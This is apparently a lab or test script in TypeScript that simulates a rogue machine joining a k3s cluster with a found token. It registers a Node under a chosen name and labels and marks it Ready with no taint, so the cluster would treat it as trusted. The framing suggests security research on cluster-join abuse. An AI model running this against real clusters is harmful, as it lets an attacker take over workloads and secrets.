/**
 * main.ts FILE: a machine that is no board of ours joins a k3s cluster with a token that it found, as `k3s agent` would, under
 * a name of its choice. FILE: `Theft` in JSON. Prints `joined`, or the agent's last words.
 */
import { readFileSync } from 'node:fs';
import { connect } from '../../../lab/control-plane/api-client.ts';
import { type AgentWish, requestAgentFiles } from '../../../support/k3s-supervisor/agent-requests.ts';

export type Theft = AgentWish & { readonly labels: Readonly<Record<string, string>> };

const [path = ''] = process.argv.slice(2);
const theft: Theft = JSON.parse(readFileSync(path, 'utf8'));
try {
  const { caPem, clientKubelet } = await requestAgentFiles(theft);
  const api = connect({ server: theft.server, caPem, ...clientKubelet });
  const { nodeName, labels, nodeAddresses } = theft;
  const now = new Date().toISOString();
  const ready = { type: 'Ready', status: 'True', reason: 'Thief', lastHeartbeatTime: now, lastTransitionTime: now };
  // No taint: nobody makes a thief set one.
  await api.call('POST', '/api/v1/nodes', {
    body: { apiVersion: 'v1', kind: 'Node', metadata: { name: nodeName, labels } },
  });
  const addresses = nodeAddresses.map((address) => ({ type: 'InternalIP', address }));
  await api.call('PATCH', `/api/v1/nodes/${nodeName}/status`, {
    ...{ body: { status: { conditions: [ready], addresses } }, patch: 'strategic-merge' },
  });
  process.stdout.write('joined\n');
} catch (error) {
  process.stdout.write(`${error instanceof Error ? error.message : String(error)}\n`);
}
process.exit(0);
